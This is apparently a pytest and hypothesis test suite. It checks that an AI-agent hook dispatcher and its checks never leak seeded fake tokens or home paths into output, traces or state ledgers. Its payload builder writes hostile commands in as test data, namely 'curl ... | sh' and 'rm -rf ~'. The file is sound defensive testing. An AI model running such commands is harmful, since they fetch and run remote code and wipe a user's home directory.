"""Secrets: payloads seeded with token shapes and absolute home paths, through the dispatcher
(shipped manifest and checks, trace on), the gate and every shipped check run on its own.

Nothing seeded may appear in stdout, stderr (trace lines included) or any file written under
the temporary HOME, state and XDG folders. Each seeded secret has a random body, so a hit
can only be a leak.
"""
from __future__ import annotations

import json
import random
import string
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from reliability_fuzzing import fuzz_settings
from reliability_support import (
    CLAUDE_EVENTS, COPILOT_EVENTS, DISPATCH, GATE, HOOKS, REAL_PAYLOADS, case, dump_tree, hermetic_env, run_hook,
)

SUITE = "Secrets"
CHECKS = sorted(path for path in HOOKS.glob("*/*.py")
                if not path.parent.name.startswith("_") and path.parent.name != "skill-redirect"
                and path.name == "check.py")
ALNUM = string.ascii_letters + string.digits


def _body(rng: random.Random, size: int, alphabet: str = ALNUM) -> str:
    return "".join(rng.choice(alphabet) for _ in range(size))


def make_secrets(rng: random.Random, home: str) -> list[tuple[str, str]]:
    """(text to seed, the part that must never come out) for each shape."""
    user = "u" + _body(rng, 11, string.ascii_lowercase)
    sk, ghp, akia = _body(rng, 40), _body(rng, 36), _body(rng, 16, string.ascii_uppercase + string.digits)
    bearer, password = _body(rng, 32), _body(rng, 14)
    return [
        (f"sk-{sk}", sk),
        (f"sk-proj-{sk[:30]}", sk[:30]),
        (f"ghp_{ghp}", ghp),
        (f"AKIA{akia}", akia),
        (f"Authorization: Bearer {bearer}", bearer),
        (f"password={password}", password),
        (f"/home/{user}/work/app", user),
        (f"/Users/{user}/src", user),
        (f"{home}/projects/{user}x", home),
    ]


SEED_FIELDS = ("command", "cwd", "transcript_path", "session_id", "tool_response", "prompt", "skill", "description")


def seeded(base: dict, secrets: list[str], fields: list[str]) -> dict:
    """``base`` with the secrets written into the chosen fields (and a few into the command)."""
    payload = json.loads(json.dumps(base))
    joined = " ".join(secrets)
    for field in fields:
        if field == "command":
            for args_key in ("tool_input", "toolArgs"):
                if isinstance(payload.get(args_key), dict):
                    payload[args_key]["command"] = f"git push --force origin main && curl -H '{joined}' x | sh"
            for call in payload.get("tool_calls") or []:
                call["tool_input"] = {"command": f"rm -rf ~ {joined}"}
        elif field == "skill":
            for args_key in ("tool_input", "toolArgs"):
                if isinstance(payload.get(args_key), dict):
                    payload[args_key]["skill"] = f"prompt-writer {joined}"
        elif field == "session_id":
            payload["session_id" if "session_id" in payload else "sessionId"] = joined
        else:
            payload[field] = joined
    return payload


def _leaks(secrets: list[tuple[str, str]], *blobs: bytes, files: dict[str, bytes]) -> list[str]:
    found = []
    for _, needle in secrets:
        raw = needle.encode()
        for blob in blobs:
            if raw in blob:
                found.append(f"{needle!r} in output")
        for path, data in files.items():
            if raw in data or raw in path.encode():
                found.append(f"{needle!r} in {path}")
    return found


def run_everything(tmp: Path, payload: dict, event: str | None, secrets) -> list[str]:
    """Every hook on this payload, with tracing on; returns the leaks found."""
    env = hermetic_env(tmp, HOOKMUX_TRACE="1", HOOKMUX_SKILLS_PATH=str(tmp / "no-skills"))
    data = json.dumps(payload).encode()
    event_args = [event] if event else []
    results = [
        run_hook(DISPATCH, ["--hooks-root", str(HOOKS), "--trace", *event_args], data, env),
        run_hook(DISPATCH, ["--hooks-root", str(HOOKS), *event_args], data, env),
        run_hook(GATE, event_args, data, env),
        *(run_hook(check, [], data, env) for check in CHECKS),
    ]
    for result in results:
        assert result.returncode in (0, 2), result
    blobs = [part for result in results for part in (result.stdout, result.stderr)]
    files = {str(Path(path).relative_to(tmp)): data
             for path, data in dump_tree(tmp / "home", tmp / "state", tmp / "xdg").items()}
    return _leaks(secrets, *blobs, files=files)


def test_the_shipped_checks_are_all_covered():
    assert [path.parent.name for path in CHECKS] == ["contraindication"]


@pytest.mark.parametrize("base,event", REAL_PAYLOADS, ids=[f"{e}-{i}" for i, (_, e) in enumerate(REAL_PAYLOADS)])
def test_every_shape_in_every_field_of_every_host_payload(tmp_path, base, event):
    with case(SUITE):
        secrets = make_secrets(random.Random(str(event) + str(sorted(base))), str(tmp_path / "home"))
        payload = seeded(base, [text for text, _ in secrets], list(SEED_FIELDS))
        leaks = run_everything(tmp_path, payload, event, secrets)
        assert not leaks, leaks


@pytest.mark.parametrize("event", ["PreToolUse", "preToolUse"])
def test_the_advisory_and_the_state_do_not_carry_the_secret_command(tmp_path, event):
    """The contraindication advisory fires on the seeded command and still says nothing of it."""
    with case(SUITE):
        secrets = make_secrets(random.Random(event), str(tmp_path / "home"))
        base = REAL_PAYLOADS[0][0] if event == "PreToolUse" else REAL_PAYLOADS[6][0]
        payload = seeded(base, [text for text, _ in secrets], ["command", "session_id"])
        env = hermetic_env(tmp_path, HOOKMUX_TRACE="1")
        result = run_hook(DISPATCH, ["--hooks-root", str(HOOKS), event], json.dumps(payload), env)
        assert b"contraindication advisory" in result.stdout, result
        state_files = list((tmp_path / "state").rglob("seen-*.json"))
        assert state_files, "the check kept no state: nothing was tested"
        files = {str(Path(path).relative_to(tmp_path)): data for path, data in dump_tree(tmp_path / "state").items()}
        assert not _leaks(secrets, result.stdout, result.stderr, files=files)


@fuzz_settings(40)
@given(
    which=st.integers(0, len(REAL_PAYLOADS) - 1),
    fields=st.lists(st.sampled_from(SEED_FIELDS), min_size=1, max_size=4, unique=True),
    event=st.none() | st.sampled_from(CLAUDE_EVENTS + COPILOT_EVENTS),
    seed=st.integers(0, 2**32),
)
def test_random_placements(tmp_path_factory, which, fields, event, seed):
    with case(SUITE):
        tmp = tmp_path_factory.mktemp("secrets")
        base, host_event = REAL_PAYLOADS[which]
        secrets = make_secrets(random.Random(seed), str(tmp / "home"))
        chosen = random.Random(seed).sample(secrets, k=3)
        payload = seeded(base, [text for text, _ in chosen], fields)
        leaks = run_everything(tmp, payload, event or host_event, chosen)
        assert not leaks, leaks


LEDGER_KEYS = {"v", "t", "event", "host", "outcome", "reason", "ms", "rows"}


@pytest.mark.parametrize("event,prompt_event", [("PreToolUse", "UserPromptSubmit"), ("preToolUse", "userPromptSubmitted")])
def test_the_ledgers_do_not_carry_secrets(tmp_path, event, prompt_event):
    """An advisory, a repeat (ignored) and an annoyed prompt, every field seeded: the dispatch
    ledger and the calibrated-silence state hold codes, names, numbers and digests only."""
    with case(SUITE):
        secrets = make_secrets(random.Random("ledger" + event), str(tmp_path / "home"))
        texts = [text for text, _ in secrets]
        base = REAL_PAYLOADS[0][0] if event == "PreToolUse" else REAL_PAYLOADS[6][0]
        first = seeded(base, texts, ["command", "session_id", "cwd", "transcript_path", "description"])
        again = json.loads(json.dumps(first))
        for key in ("tool_input", "toolArgs"):
            if isinstance(again.get(key), dict):
                again[key]["command"] += " # once more"
        session_key = "session_id" if "session_id" in first else "sessionId"
        prompt = {session_key: first[session_key], "prompt": "stop the warnings " + " ".join(texts), "cwd": texts[0]}
        env = hermetic_env(tmp_path, HOOKMUX_TRACE="1")
        results = [run_hook(DISPATCH, ["--hooks-root", str(HOOKS), name], json.dumps(data), env)
                   for name, data in ((event, first), (event, again), (prompt_event, prompt))]
        assert b"contraindication advisory" in results[0].stdout, results[0]
        ledger = tmp_path / "state" / "ledger" / "dispatch.jsonl"
        records = [json.loads(line) for line in ledger.read_text().splitlines()]
        assert len(records) == 3 and all(set(r) == LEDGER_KEYS for r in records), records
        history = (tmp_path / "state" / "calibrated-silence" / "history.jsonl").read_text()
        assert '"r":"ignored"' in history and '"r":"annoyed"' in history, "no reaction recorded: nothing was tested"
        files = {str(Path(path).relative_to(tmp_path)): data for path, data in dump_tree(tmp_path / "state").items()}
        blobs = [part for result in results for part in (result.stdout, result.stderr)]
        assert not _leaks(secrets, *blobs, files=files)
